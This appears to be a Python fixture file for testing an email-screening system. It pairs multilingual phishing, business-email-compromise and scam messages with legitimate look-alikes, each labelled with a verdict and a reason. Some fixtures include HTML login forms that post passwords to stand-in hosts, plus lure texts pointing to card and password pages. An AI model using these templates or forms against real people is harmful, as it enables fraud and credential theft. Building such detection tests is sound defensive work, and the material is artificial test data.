"""By a second examiner who had seen neither rules nor phrases nor other cases: the half that those who write rules may read."""
from functools import partial

from ..authoring import Habit, Thread, business, grouped, iban, pair, side
from ..files import File
from ..places import place
from ..second_examiner_organizations import (ALBARIZA, ALON, BELLANDI, BEREHYNIA, BUZAVIRAG, CIGALES, ELAIONAS, FJORDTEATRET, JATI, KAARNA, KAMERTON, KLONOWA,
                                               LASTOVICA, LIPA, LYSBAKKEN, MAASMOND, MENEKSE, NAKHLA, PAYS, PODHRADI, RIVERTON, RODOPI, SAOBIEN, SERRA, SHOFUSO,
                                               TALLASEN, THEY, VALLFOSCA, WESERLAND, YUNLING, ZAMBET)
from ..senders import cloud_notice, forged, forged_no_policy, free, hacked_site, notice, office, office365, rented

known = partial(pair, "second-known")
strangers = partial(pair, "second-strangers")
everyday = partial(business, "second-business-known")
unknown = partial(business, "second-business-strangers")

# ---- Those whom the house knows, or who say so ----

KNOWN = [
    known("en", RIVERTON, "the director's private address, at another provider",
          attack=side(free("Dana Whitford", "dana.whitford.home@gmail.com", "iphone"), "quarantine", "The listed private address is at another provider; this one is "
          "nobody's, and it wants home addresses."),
          twin=side(THEY["dana_private"], "deliver", "The listed private address, used for months."),
          to="s.banerjee", subject="trustee packets", body="Sunita, I'm working from the cottage this afternoon. Can you send me the trustee contact sheet, the one with "
          "home addresses and cell numbers? I'd like to sign the thank-you cards tonight.\n\nDana"),
    known("fr", CIGALES, "la boîte du fournisseur est volée, le fil continue",
          attack=side(THEY["verrerie"].but(reply_to="<g.aubrac.verrerie@gmail.com>", program="roundcube"), "quarantine", "In the true thread, but answers go to a free "
          "mailbox, the program is another and the account is new.",
                      words={"account": grouped(iban("FR", "99904030440099120077315"))}),
          twin=side(THEY["verrerie"], "deliver", "The same thread with the account on which all invoices were paid.", words={"account": grouped(PAYS["verrerie"])}),
          to="c.blanc", subject="Re: Bouteilles 75 cl feuille morte", thread=Thread(THEY["verrerie"], "c.blanc", "Bouteilles 75 cl feuille "
          "morte", ((9, "in"), (8, "out"), (6, "in"), (3, "out"))),
          body="Bonjour Chloé,\n\nLes 14 palettes partent lundi comme convenu. Pour l'acompte de 30 %, merci de régler 8 940 € sur {account} ; je lance l'étiquetage dès que "
          "la banque me confirme.\n\nBonne journée,\nGilles\n\n> Bonjour Gilles, c'est bon pour lundi, livraison côté chai. Chloé"),
    known("it", BELLANDI, "la titolare scrive da una casella gratuita",
          attack=side(free("Avv. Rita Bellandi", "studio.bellandi.rita@libero.it", "iphone"), "quarantine", "The head's name on a mailbox that nobody here knows; she wants "
          "a client's file."),
          twin=side(BELLANDI.person("r.bellandi"), "deliver", "Her own address."),
          to="a.ferri", subject="fascicolo Gualtieri", body="Alice, mi giri qui il fascicolo Gualtieri con le coordinate del cliente? Sono in udienza e mi serve entro le "
          "11.\nR."),
    known("sv", TALLASEN, "kommundirektören vill ha presentkort",
          attack=side(free("Lars Ekström", "lars.ekstrom.kdir@outlook.com", "iphone"), "quarantine", "The director's name on a stranger's mailbox; codes of gift cards are "
          "money."),
          twin=side(TALLASEN.person("l.ekstrom"), "deliver", "His own address, and the cards are to lie at the reception."),
          to="j.hagg", subject="Avtackning på onsdag", body="Hej Johan,\n\nJag tänkte att vi avtackar de tre som slutar i nämnden med presentkort på 1 000 kr var. Kan du "
          "köpa dem i dag, du får igen utlägget med lönen? Mejla mig när du har dem.\n\nLars"),
    known("nb", FJORDTEATRET, "skanning fra kopimaskinen",
          habits=(Habit(office("Kopirom 2. etg", "kopirom@fjordteatret.example", "NO", host="mx.fjordteatret.example", program="device"), "a.nilsen", 12, 0, 8, "", "Skannet "
          "dokument #"),),
          attack=side(forged("Kopirom 2. etg", "kopirom@fjordteatret.example", program="device", country="BG"), "quarantine", "Our own copier from a server abroad that may "
          "not send for us, with a page instead of a scan.",
                      files=(File("Skann_0612.html", "html", "<html><body><h3>Fjordteatret</h3><p>Logg inn for å se dokumentet</p><form "
                      "action=\"https://skann-visning.example/p.php\" method=\"post\"><input name=\"u\" value=\"<<to>>\">"
                                  "<input type=\"password\" name=\"p\"><button>Vis</button></form></body></html>"),)),
          twin=side(office("Kopirom 2. etg", "kopirom@fjordteatret.example", "NO", host="mx.fjordteatret.example", program="device"), "deliver", "The copier as it always "
          "writes, with a PDF.",
                    files=(File("Skann_0612.pdf", "pdf", "Kontrakt gjestespill\nside 1 av 4"),)),
          to="a.nilsen", subject="Skannet dokument 0612", body="Dokumentet er skannet og lagt ved.\nSider: 4\nOppløsning: 300 dpi"),
    known("pl", KLONOWA, "powiadomienie o wycieku tokenu",
          attack=side(rented("CodeForge", "noreply@codeforge-security.example", "US", program="service"), "quarantine", "Not the domain from which the builds come every day,"
          " and the button leads there.", words={"link": "https://codeforge-security.example/sessions/verify"}),
          twin=side(THEY["repo"], "deliver", "The service itself, signed as always, its own site.", words={"link": "https://codeforge.example/settings/tokens"}),
          to="b.kos", subject="[klon/api] Token dostępu znaleziony w publicznym repozytorium", body="# Wykryliśmy token dostępu\n\nW publicznym commicie znaleźliśmy "
          "osobisty token konta {full}. Token został tymczasowo wyłączony. Zaloguj się, sprawdź ostatnie użycia i utwórz nowy.\n\n[Sprawdź tokeny]({link})\n\nCodeForge"),
    known("sk", LIPA, "krajčírstvo s jednotkou namiesto l",
          attack=side(rented("Krajčírstvo Lipka", "dielna@krajcirstvo-1ipka.example", "BG", program="thunderbird"), "quarantine", "The digit one stands for the letter l, "
          "and the account is new.", words={"account": grouped(iban("SK", "99910000004471220938"))}),
          twin=side(THEY["kostymy"], "deliver", "The true workshop and its account.", words={"account": grouped(PAYS["kostymy"])}),
          to="z.benova", subject="Kostýmy Maryša – zálohová faktúra", body="Dobrý deň, pani Beňová,\n\nlátky sú objednané. Zálohu 1 860 € prosím uhraďte na účet {account}, "
          "variabilný symbol 260612. Skúška kostýmov ostáva v utorok.\n\nS pozdravom\nKrajčírstvo Lipka"),
    known("hr", LASTOVICA, "poziv u kalendaru s prijavom",
          attack=side(rented("Klaus Wimmer", "klaus@wimmer-yachting.example", "NL"), "quarantine", "The partner's name from a domain never seen, and the meeting asks for "
          "the password of the mailbox.", words={"link": "https://teams-sastanak.example/prijava?m={to}", "mail": "klaus@wimmer-yachting.example"}),
          twin=side(THEY["charter"], "deliver", "The partner's own address and the meeting place of the provider "
          "itself.", words={"link": "https://teams.microsoft.com/l/meetup-join/19%3ameeting_Nzk4", "mail": "klaus@wimmer-charter.example"}),
          to="a.maric", subject="Sastanak: vezovi za kolovoz", body="Poštovani Ante,\n\nšaljem poziv za razgovor o vezovima za kolovoz. Pristupite preko poveznice:\n\n"
          "[Pridruži se sastanku]({link})\n\nKlaus",
          invitation="BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:8841-vez@wimmer\nDTSTART:20260616T080000Z\nDTEND:20260616T083000Z\nSUMMARY:Vezovi za "
          "kolovoz\nORGANIZER:mailto:{mail}\nATTENDEE:mailto:{to}\nDESCRIPTION:{link}\nEND:VEVENT\nEND:VCALENDAR\n"),
    known("bg", RODOPI, "капаро за хотела, нула вместо буква",
          attack=side(rented("Хотел Бор", "rezervacii@hotelb0r.example", "BG", program="thunderbird"), "quarantine", "A nought stands for the letter o, and the account is "
          "new.", words={"account": grouped(iban("BG", "ZNBG99991020771234"))}),
          twin=side(THEY["hotel_bg"], "deliver", "The hotel itself, and the account that it always names.", words={"account": grouped(PAYS["hotel_bg"])}),
          to="i.petrov", subject="Група 24 юни – капаро", body="Здравейте, г-н Петров,\n\nзапазили сме 18 стаи за групата на 24 юни. Капарото от 2 700 лв. моля преведете до "
          "петък по сметка {account}. След това ще изпратим ваучерите.\n\nПоздрави,\nХотел Бор"),
    known("tr", MENEKSE, "gümrük müşavirinin adı, yabancı adres",
          attack=side(free("Tolga Er", "tolga.er.gumrukleme@outlook.com"), "junk", "A known agent's name on a free mailbox that nobody here knows, asking for money."),
          twin=side(THEY["gumruk"], "deliver", "The agent's own mailbox."),
          to="d.yalcin", subject="Ardiye ücreti", body="Derya Hanım merhaba,\n\nAmbarlı'daki konteyner için ardiye bugün 17.00'ye kadar yatmazsa çekim yarına kalıyor. "
          "46.750 TL'yi yatırıp dekontu buraya atabilir misiniz? Faturasını akşam keserim.\n\nTolga"),
    known("ru", KAMERTON, "директор предупреждает о звонке куратора",
          attack=side(free("Людмила Белова", "belova.kamerton.direktor@mail.ru", "roundcube"), "quarantine", "The head's name on a stranger's mailbox prepares a teacher for "
          "a call by a false official.",
                      words={"ask": "Ответьте, пожалуйста, на все его вопросы, с коллегами пока не обсуждайте. После разговора напишите мне сюда."}),
          twin=side(KAMERTON.person("l.belova"), "deliver", "The head's own address and a call that everybody may know of.",
                    words={"ask": "Ответьте, пожалуйста, на вопросы по журналу, остальное обсудим на педсовете."}),
          to="p.gusev", subject="Звонок из департамента", body="Павел, добрый день.\n\nСегодня вам позвонит Игорь Сергеевич из департамента по поводу персональных данных "
          "сотрудников. {ask}\n\nЛ. Белова",
          date="2026-06-09T08:12:00"),
    known("zh", YUNLING, "工资补贴二维码",
          attack=side(hacked_site("云岭茶业财务部", "caiwu@lvyou-minsu.example"), "quarantine", "The name is our finance department's, the sender a guest house's broken web site; "
          "the code leads to a page for card numbers.",
                      files=(File("butie.png", "qr", "https://butie-shenling.example/2026"),)),
          twin=side(YUNLING.person("xujing").but(program="outlook"), "deliver", "A colleague's own address, and a code for our own site.",
          files=(File("butie.png", "qr", "https://oa.yunling-tea.example/2026"),)),
          to="linfeng", subject="2026年高温补贴申领通知", body="各位同事:\n\n根据公司安排,2026年夏季高温补贴即日起开始申领,请于本周五前用手机扫描附件二维码登记本人银行卡信息,逾期视为放弃。\n\n财务部"),
    known("pt", SERRA, "a presidente pede um Pix",
          attack=side(free("Flávia Moreira", "flavia.moreira.presidencia@outlook.com", "iphone"), "quarantine", "The head's name on a mailbox that nobody knows, and money "
          "to a private key."),
          twin=side(SERRA.person("f.moreira", program="iphone"), "banner", "Her own address; a Pix to a private key is still worth a call."),
          to="r.nunes", subject="Pix para o palestrante", body="Renato, bom dia. Faz um Pix de R$ 3.800 pro palestrante do dia de campo? Chave: 999.441.220-10. Me manda o "
          "comprovante por aqui, tô na estrada.\nFlávia"),
    known("he", ALON, "תיבת בית הדפוס נגנבה",
          attack=side(THEY["dfus"].but(reply_to="<dfus.shaked.office@gmail.com>", program="roundcube"), "quarantine", "The true mailbox, but answers go to a free one, the "
          "program is new and so is the account.", words={"account": grouped(iban("IL", "9990900000088812345"))}),
          twin=side(THEY["dfus"], "deliver", "The same thread with the known account.", words={"account": grouped(PAYS["dfus"])}),
          to="m.cohen", subject="Re: הדפסה שנייה", thread=Thread(THEY["dfus"], "m.cohen", "הדפסה שנייה", ((8, "in"), (7, "out"), (3, "in"), (2, "out"))),
          body="שלום מיכל,\n\nההדפסה השנייה יורדת מהמכונה מחר. כדי לשחרר למחסן נשמח לקבל את היתרה, 19,600 ש\"ח, לחשבון {account}. תודה, וסוף שבוע נעים.\n\nדפוס שקד\n\n> מתי "
          "אפשר לקבל עותקים? מיכל"),
    known("id", JATI, "pemasok kayu, rekening atas nama lain",
          attack=side(forged_no_policy("Budi Santoso", "budi@kayujati-makmur.example", country="SG").but(program="roundcube"), "quarantine", "Always signed until now, and "
          "now from anywhere without a signature; the account is another person's.", words={"account": "999-88-7654321-0 a.n. Rudi Hartono"}),
          twin=side(THEY["kayu"], "deliver", "Signed, and the known account.", words={"account": "999-00-1234567-8"}),
          to="keuangan", subject="Pelunasan faktur kayu jati", body="Selamat pagi,\n\nKayu jati grade A sudah siap dimuat. Mohon pelunasan Rp 128.500.000 ditransfer hari "
          "ini ke rekening {account} supaya truk bisa berangkat besok pagi.\n\nTerima kasih,\nBudi"),
    known("en", RIVERTON, "direct deposit of a member of staff",
          attack=side(free("Grace Okafor", "grace.okafor.rdsb@gmail.com"), "quarantine", "A colleague's name on an unknown mailbox moves her wages."),
          twin=side(RIVERTON.person("g.okafor"), "banner", "Her own address; payroll asks back all the same."),
          to="hr", subject="Direct deposit", body="Hello,\n\nI've switched to a credit union and need my pay to go there starting with the June 26 run. Institution 995, "
          "transit 30118, account 7740021. Is there a form, or is this email enough?\n\nThanks so much,\nGrace Okafor\nBusiness Services"),
    known("de", WESERLAND, "Befundbenachrichtigung von fremder Domain",
          attack=side(hacked_site("MedArchiv", "benachrichtigung@zahnarzt-hoexter.example"), "quarantine", "The archive's name, a dentist's broken web site, and a page for "
          "the password.", words={"link": "https://www.zahnarzt-hoexter.example/wp-content/medarchiv/login.html"}),
          twin=side(THEY["roentgen"], "deliver", "The archive itself.", words={"link": "https://portal.medarchiv.example/befund/771204"}),
          to="s.yildiz", subject="Neuer Befund liegt bereit", body="Guten Tag,\n\nfür einen Ihrer Patienten liegt ein neuer Befund bereit (CT Thorax, dringend). Aus Gründen "
          "des Datenschutzes wird er nicht per Mail versandt.\n\n[Befund abrufen]({link})\n\nMedArchiv"),
    known("nl", MAASMOND, "advocaat in een overname",
          habits=(Habit(office365("mr. Saskia Brouwer", "brouwer@haven-advocaten.example"), "p.hoekstra", 9, 9, 13, "", "Dossier #"),),
          attack=side(rented("mr. Saskia Brouwer", "s.brouwer@haven-advocaten-transacties.example", "NL"), "quarantine", "Not the lawyer's domain; secrecy and a payment "
          "that only the chief would order."),
          twin=side(office365("mr. Saskia Brouwer", "brouwer@haven-advocaten.example"), "deliver", "The lawyer's own mailbox, and no money is asked for.",
                    body="Beste Fatma,\n\nPieter heeft jouw naam doorgegeven voor het financiële deel van het due-diligenceonderzoek. Zou je de debiteurenlijst per 31 mei "
                    "in de dataroom kunnen zetten? De map staat klaar.\n\nMet vriendelijke groet,\nSaskia Brouwer"),
          to="f.demir", subject="Project Kraanvogel – vertrouwelijk", body="Beste Fatma,\n\nPieter heeft jouw naam doorgegeven voor de financiële afhandeling van de "
          "overname. De waarborgsom van € 64.000 moet vandaag bij de notaris zijn. Wegens de geheimhouding loopt het contact uitsluitend via mij; "
          "bevestig je even dat je vanmiddag kunt boeken, dan stuur ik de gegevens.\n\nMet vriendelijke groet,\nSaskia Brouwer"),
    known("it", BELLANDI, "esito di deposito con una pagina allegata",
          attack=side(rented("Cancelleria Telematica", "depositi@giustizia-telematica-esiti.example", "BG", program="ledger"), "quarantine", "Not the registry's domain, and "
          "the decree is a web page that asks for the password.",
                      files=(File("Decreto_2287.html", "html", "<html><head><title>Decreto</title></head><body><p>Documento protetto. Inserire le credenziali della casella "
                      "<<to>></p><form method=post action=https://esiti-gt.example/l.php>"
                                  "<input name=e><input type=password name=p></form></body></html>"),)),
          twin=side(THEY["cancelleria"], "deliver", "The registry as always, with a PDF.", files=(File("Decreto_2287.pdf", "pdf", "TRIBUNALE\nDecreto n. 2287/2026\nIl "
          "giudice dispone il rinvio al 9 luglio."),)),
          to="f.greco", subject="Esito deposito R.G. 2287/2026", body="Deposito accettato.\nRuolo generale: 2287/2026\nAtto: decreto di rinvio\nIl provvedimento è allegato "
          "alla presente comunicazione."),
    known("da", LYSBAKKEN, "opdigtet tråd med direktørens godkendelse",
          attack=side(rented("Nordisk Rådgivning", "faktura@nordisk-raadgivning-aps.example", "LT"), "quarantine", "Nobody wrote with them; the director's approval stands "
          "only in quoted words under it."),
          twin=side(LYSBAKKEN.person("h.lund"), "deliver", "The director himself passes the invoice on.", subject="VS: Faktura 20614 – strategiforløb",
                    body="Hej Kirsten\n\nVil du betale vedhæftede til tiden? Det er forløbet fra maj.\n\nHenrik\n\n> Hermed faktura for strategiforløbet i maj, kr. 86.250. "
                    "Mvh. Nordisk Rådgivning", files=(File("Faktura_20614.pdf", "pdf", "Nordisk Raadgivning\nFaktura 20614\nKr. 86.250,00"),)),
          to="k.dahl", subject="SV: Faktura 20614 – strategiforløb", body="Kære Kirsten\n\nHenrik har godkendt fakturaen nedenfor. Beløbet kr. 86.250 bedes overført i dag "
          "til reg. 9990, konto 4477120938, så vi undgår renter.\n\nMvh.\nNordisk Rådgivning\n\n> Fra: Henrik Lund\n> Helt fint, send den til Kirsten i økonomi, hun betaler "
          "med det samme.\n> Henrik"),
    known("de", KLONOWA, "Partner bittet um Freigabe",
          attack=side(forged("Jana Scholz", "jana.scholz@fahrtwind-mobility.example", country="NL", program="outlook"), "quarantine", "Her address, no signature, a server "
          "that may not send for her, and she wants the keys.",
                      body="Hallo Bartek,\n\nunser neuer Freelancer braucht heute noch Zugriff auf die Produktivdatenbank. Kannst du ihm die Zugangsdaten direkt schicken: "
                      "m.renner.dev@proton.me? Ich bin bis abends im Flieger.\n\nGruß\nJana"),
          twin=side(THEY["berlin"].but(at=place("relay.klonowa-mail.example", 65541, "PL"), spf="fail", arc="pass", sealer="klonowa-mail.example"), "deliver", "Forwarded by "
          "the old mailbox of the house: the envelope breaks, her signature holds."),
          to="b.kos", subject="Zugang für neuen Kollegen", body="Hallo Bartek,\n\nab Montag arbeitet Mirko Renner bei uns mit. Legst du ihm bitte einen Lesezugang im "
          "Testsystem an? Seine Adresse ist m.renner@fahrtwind-mobility.example, alles Weitere im Standup.\n\nGruß\nJana"),
    known("en", RIVERTON, "the parent council, an i for an l",
          attack=side(free("Riverton Parent Council", "riverton.parentcouncii@gmail.com"), "junk", "Almost the council's mailbox: the last letter is an i, and a private "
          "person is to get the money."),
          twin=side(THEY["ptoffice"], "deliver", "The council's mailbox of many letters."),
          to="s.banerjee", subject="Fun fair deposit", body="Hi Sunita,\n\nThe inflatables company wants its deposit today or we lose the 20th. Could the school e-transfer "
          "$475 to kmdeluca.rentals@outlook.com? Password: funfair. We'll pay it back from the raffle.\n\nThanks!\nParent Council"),
    known("cs", PODHRADI, "ředitel na cestách",
          attack=side(forged("Vít Doležal", "v.dolezal@muzeum-podhradi.example", country="RU", program="roundcube"), "quarantine", "Our own address from outside, with "
          "nothing to prove it, and an advance to be paid."),
          twin=side(PODHRADI.person("v.dolezal", program="iphone"), "deliver", "His own account, from his telephone."),
          to="uctarna", subject="záloha za zápůjčku", body="Dobrý den,\n\njsem ve Vídni na jednání o zápůjčce. Prosím připravte na dnešek zálohu 62 000 Kč, číslo účtu pošlu "
          "za chvíli. Smlouvu přivezu v pátek.\n\nDoležal"),
    known("hu", BUZAVIRAG, "az ügyvezető nevében sürgős lisztszámla",
          attack=side(free("Németh Gábor", "nemeth.gabor.ugyvezeto@gmail.com", "iphone"), "quarantine", "The head's name on an unknown mailbox orders a payment to an "
          "unknown account.", words={"account": grouped(iban("HU", "999700011111101877000092"))}),
          twin=side(BUZAVIRAG.person("g.nemeth", program="iphone"), "deliver", "His own address and the mill's known account.", words={"account": grouped(PAYS["malom"])}),
          to="k.toth", subject="malom", body="Kati, a malomnak ma ki kell menni 1 240 000 forintnak, különben nincs liszt hétfőn. Számlaszám: {account}. Írj, ha elment.\nG."),
]

# ---- Strangers ----

STRANGERS = [
    strangers("en", RIVERTON, "mailbox quota from a hacked site",
          attack=side(hacked_site("Microsoft 365 Mail", "info@oldmillbakery.example"), "quarantine", "Microsoft's name, a bakery's web site, and a page there for the "
          "password.", words={"link": "https://oldmillbakery.example/wp-includes/o365/?m={to}"}),
          twin=side(notice("Microsoft 365", "o365mc@microsoft.com"), "deliver", "Microsoft's own domain, proved, and its own site.",
          words={"link": "https://admin.microsoft.com/"}),
          to="s.banerjee", subject="Your mailbox is 98% full", body="Your mailbox {to} has used 49.1 GB of 50 GB. When it is full you will not be able to send or receive "
          "new messages.\n\n[Review storage]({link})\n\nThis is a service notification for your organization's subscription."),
    strangers("fr", CIGALES, "colis en attente de frais",
          attack=side(rented("DHL Express", "suivi@livraison-frais-colis.example", "NL", program="service"), "quarantine", "The parcel service's name on a rented domain; a "
          "card number for two euros.", words={"link": "https://livraison-frais-colis.example/fr/paiement", "what": "1,99 € de droits restent à régler sous 48 heures, faute "
          "de quoi le colis sera retourné."}),
          twin=side(notice("DHL Express", "noreply@dhl.com", "DE"), "deliver", "The parcel service's own "
          "domain.", words={"link": "https://www.dhl.com/fr-fr/home/suivi.html?tracking-id=4471882016", "what": "Il sera livré jeudi avant 18 h. Vous pouvez choisir une "
          "autre date."}),
          to="contact", subject="Votre envoi 4471882016", body="Bonjour,\n\nVotre envoi 4471882016 en provenance du Japon est arrivé à notre agence. {what}\n\n[Gérer ma "
          "livraison]({link})\n\nDHL Express"),
    strangers("es", ALBARIZA, "devolución de Hacienda",
          attack=side(hacked_site("Agencia Tributaria", "notificaciones@floristeria-azahar.example"), "quarantine", "The tax office's name, a florist's broken site, a card "
          "number for a refund.", words={"link": "https://floristeria-azahar.example/aeat/devolucion"}),
          twin=side(office("Gestoría Pardo", "clientes@gestoria-pardo.example", "ES"), "deliver", "An office of its own name that writes for the first time and wants "
          "nothing but an answer.",
                    body="Buenas tardes:\n\nDesde julio llevaremos los impuestos del club, según acordó vuestra junta. La devolución del impuesto de sociedades de 2025, "
                    "1.846,22 €, ya está aprobada y llegará sola a vuestra cuenta. ¿Podéis decirnos quién será nuestro contacto?\n\nUn saludo,\nBeatriz Pardo\nGestoría "
                    "Pardo, Plaza Mayor 6"),
          to="tesoreria", subject="Devolución del impuesto de sociedades 2025", body="Estimado contribuyente:\n\nTras la revisión de su declaración resulta una devolución a "
          "su favor de 1.846,22 €. Para abonarla debe indicar la tarjeta en la que desea recibirla antes del 15 de junio.\n\n[Solicitar devolución]({link})\n\nAgencia "
          "Tributaria"),
    strangers("pl", KLONOWA, "praca zdalna przy ocenach",
          attack=side(free("Anna Rekrutacja", "anna.hr.rekrutacja2026@gmail.com"), "junk", "No firm, no name, money for next to nothing, and the talk is to move to a "
          "messenger.",
                      body="Dzień dobry,\n\nszukamy osób do oceniania hoteli i sklepów przez internet, 30–60 minut dziennie, 250–600 zł za dzień, wypłata codziennie w USDT. "
                      "Doświadczenie nie jest potrzebne. Proszę napisać na Telegram: @hr_anna_online i podać kod 118.\n\nAnna"),
          twin=side(office("Magda Rutkowska", "magda.rutkowska@talentowo-rekrutacja.example", "PL"), "deliver", "A recruiter with a firm, a name and a plain question.",
                    body="Dzień dobry, Panie Bartku,\n\nszukamy lidera zespołu backendowego dla firmy logistycznej z Wrocławia, umowa o pracę, 24–29 tys. zł brutto, dwa dni "
                    "w biurze. Czy mogę zadzwonić w tym tygodniu na 15 minut?\n\nMagda Rutkowska\nTalentowo sp. z o.o., ul. Długa 4, Wrocław"),
          to="b.kos", subject="Propozycja współpracy"),
    strangers("pt", SERRA, "herança de um cliente",
          attack=side(free("Dr. Augusto Lemos", "dr.augusto.lemos.adv@yahoo.com", reply_to="<augusto.lemos.chambers@proton.me>"), "junk", "A fortune from a dead stranger, "
          "secrecy, and answers to another mailbox.",
                      body="Prezado(a),\n\nSou advogado de um falecido cliente estrangeiro que deixou USD 8,4 milhões sem herdeiros. Como a sua cooperativa tem o mesmo "
                      "sobrenome, proponho apresentá-la como beneficiária; ficamos com 40% cada e 10% para despesas. Peço sigilo absoluto. Responda com nome completo e "
                      "telefone.\n\nDr. Augusto Lemos"),
          twin=side(office("Cartório e Advocacia Mota", "helena@mota-advocacia.example", "BR"), "deliver", "A law office with an address and a register number tells of a "
          "small legacy.",
                    body="Prezados,\n\nRepresentamos o espólio do Sr. Antenor Dias, antigo cooperado (matrícula 0418), que deixou à cooperativa seu trator e R$ 12.000,00. O "
                    "inventário corre na comarca, processo 0004471-18.2026. Podem indicar quem recebe os documentos?\n\nHelena Mota\nOAB 99.812, Rua das Acácias 40"),
          to="financeiro", subject="Assunto: espólio"),
    strangers("tr", MENEKSE, "vergi borcu bildirimi",
          attack=side(rented("Gelir İdaresi Başkanlığı", "bildirim@gib-borc-sorgu.example", "RU", program="service"), "quarantine", "The tax office does not write from a "
          "rented domain, nor take cards there.", words={"link": "https://gib-borc-sorgu.example/odeme"}),
          twin=side(office("Öztürk Mali Müşavirlik", "bilgi@ozturk-smmm.example", "TR"), "deliver", "A tax adviser's round letter to clients and others; nothing to click.",
                    body="Sayın yetkili,\n\n2026 yılı ikinci dönem geçici vergi beyannamesi için son gün 17 Ağustos'tur. Vergi borcunuzu her zaman İnternet Vergi Dairesi "
                    "üzerinden kendiniz sorgulayabilirsiniz. Sorularınız için ofisimize bekleriz.\n\nÖztürk Mali Müşavirlik, Bursa"),
          to="muhasebe", subject="Vergi borcu bildirimi", body="Sayın mükellef,\n\nŞirketiniz adına 7.418,60 TL tutarında ödenmemiş vergi borcu bulunmaktadır. Haciz işlemi "
          "başlatılmaması için borcu üç gün içinde kredi kartıyla ödeyebilirsiniz.\n\n[Borcu görüntüle ve öde]({link})\n\nGelir İdaresi Başkanlığı"),
    strangers("zh", YUNLING, "企业邮箱升级",
          attack=side(hacked_site("企业邮箱管理中心", "webmaster@xiaocheng-huadian.example"), "quarantine", "A flower shop's broken site speaks as our mail's administration and "
          "wants the password.", words={"link": "https://xiaocheng-huadian.example/mail/up?u={to}"}),
          twin=side(office("陆工", "lu@hechuang-wangluo.example", "CN"), "deliver", "A seller of mail services introduces himself; nothing to sign in to.",
                    subject="企业邮箱升级方案", body="林总您好:\n\n我是合创网络的陆工,我们代理企业邮箱产品。贵司目前的邮箱容量如需升级,我可以上门介绍方案和报价,电话 0871-5550-1122。如不需要,请忽略此邮件,打扰了。\n\n陆工"),
          to="linfeng", subject="邮箱系统升级通知", body="尊敬的用户 {to}:\n\n因系统升级,您的邮箱将于今日 18:00 停止收信。请立即点击下方链接完成验证,验证后容量升至 50G。\n\n[立即验证]({link})\n\n企业邮箱管理中心"),
    strangers("da", LYSBAKKEN, "ny post i den digitale postkasse",
          attack=side(rented("e-Boks", "besked@digital-post-besked.example", "LT", program="service"), "quarantine", "The public postbox's name on a rented domain, and a "
          "sign-in there.", words={"link": "https://digital-post-besked.example/mitid"}),
          twin=side(office("Teknik og Miljø", "teknik@faldhoej-kommune.example", "DK"), "deliver", "A small town's office tells of a letter and names the way that everybody "
          "knows.",
                    body="Goddag\n\nVi har i dag sendt en høring om facaden på Lysbakken 4 til fondens digitale postkasse. I finder den, når I logger ind, som I plejer. "
                    "Frist for svar er 3. juli.\n\nMed venlig hilsen\nFaldhøj Kommune, Teknik og Miljø"),
          to="post", subject="Nyt brev fra det offentlige", body="Du har modtaget et nyt brev fra Skattestyrelsen. Brevet vedrører en restskat og slettes efter 5 dage.\n\n"
          "[Læs brevet med MitID]({link})\n\ne-Boks"),
    strangers("ro", ZAMBET, "fișiere de descărcat",
          attack=side(rented("WeTransfer", "noreply@transfer-fisiere.example", "BG", program="service"), "quarantine", "The service's name on a rented domain; the button "
          "leads there.", words={"link": "https://transfer-fisiere.example/dl?u={to}"}),
          twin=side(cloud_notice("WeTransfer", "noreply@wetransfer.com"), "deliver", "The service's own domain and "
          "site.", words={"link": "https://wetransfer.com/downloads/7712aa04be"}),
          to="receptie", subject="radiologie.dent@labimagistica.example v-a trimis fișiere", body="# radiologie.dent@labimagistica.example v-a trimis 3 fișiere\n\n3 "
          "articole, 48 MB în total. Linkul expiră pe 19 iunie.\n\nCBCT pacient 1184\n\n[Descărcați fișierele]({link})"),
    strangers("uk", BEREHYNIA, "домен закінчується",
          attack=side(rented("Реєстратор доменів", "billing@domen-podovzhennia.example", "RU", program="service"), "junk", "Not our registrar; a renewal by card within a "
          "day for a domain that is renewed elsewhere.", words={"link": "https://domen-podovzhennia.example/pay/{domain}"}),
          twin=side(notice("Хостинг Калина", "support@kalyna-hosting.example", "UA"), "deliver", "A provider offers its services and says that it is not ours.",
                    body="Доброго дня!\n\nМи — хостинг-провайдер «Калина» і пропонуємо культурним установам безкоштовне перенесення сайтів. Ваш домен може лишитися там, де "
                    "він є. Якщо цікаво, напишіть, надішлемо умови.\n\nКоманда «Калина»"),
          to="info", subject="Про ваш домен {domain}", body="Шановний власнику домену!\n\nСтрок дії {domain} спливає сьогодні. Щоб сайт і пошта не зникли, сплатіть "
          "подовження 1 480 грн карткою протягом 24 годин.\n\n[Подовжити домен]({link})\n\nРеєстратор доменів"),
    strangers("vi", SAOBIEN, "khiếu nại bản quyền hình ảnh",
          attack=side(free("Meta Business Legal", "meta.legal.case.88120@gmail.com"), "quarantine", "The network's name on a free mailbox; the evidence is an archive behind "
          "a short link.",
                      body="Kính gửi quản trị viên Trang,\n\nTrang Facebook của quý công ty đã đăng hình ảnh vi phạm bản quyền. Vui lòng tải hồ sơ bằng chứng và phản hồi "
                      "trong 24 giờ, nếu không Trang sẽ bị vô hiệu hóa vĩnh viễn.\n\n[Tải hồ sơ bằng chứng](https://bit.ly/bangchung-88120)\n\nBộ phận pháp lý Meta"),
          twin=side(free("Lê Quang Huy", "quanghuy.photo.cantho@gmail.com"), "deliver", "A photographer with a name asks about his own picture, and threatens nobody.",
                    body="Chào anh chị,\n\nTôi là Huy, nhiếp ảnh ở Cần Thơ. Tôi thấy trang Facebook của công ty dùng tấm ảnh chợ cá tôi chụp năm 2024. Tôi rất vui, chỉ mong "
                    "công ty ghi tên tác giả dưới ảnh. Nếu cần bản lớn hơn để in, anh chị cứ nhắn tôi.\n\nHuy, 0909 555 018"),
          to="lan.pham", subject="Về hình ảnh trên trang Facebook của công ty"),
]

# ---- Everyday mail ----

EVERYDAY = [
    everyday("en", RIVERTON, "a bank change that habit confirms", THEY["larkin"], why="They tell of the change in the thread where we asked for it, and name the account "
      "that we have paid for months.",
             to="payables", subject="Re: Vendor form 2026", thread=Thread(THEY["larkin"], "g.okafor", "Vendor form 2026", ((14, "out"), (13, "in"), (6, "out"))),
             words={"account": PAYS["larkin"]},
             body="Hi Grace,\n\nForm attached. Nothing has changed on our side: the bank details are still {account}, as on every invoice since last fall. New is only the "
             "contact for dispatch.\n\nJoanne",
             files=(File("vendor_form_larkin.pdf", "pdf", "Vendor form 2026\nLarkin Busways Ltd."),)),
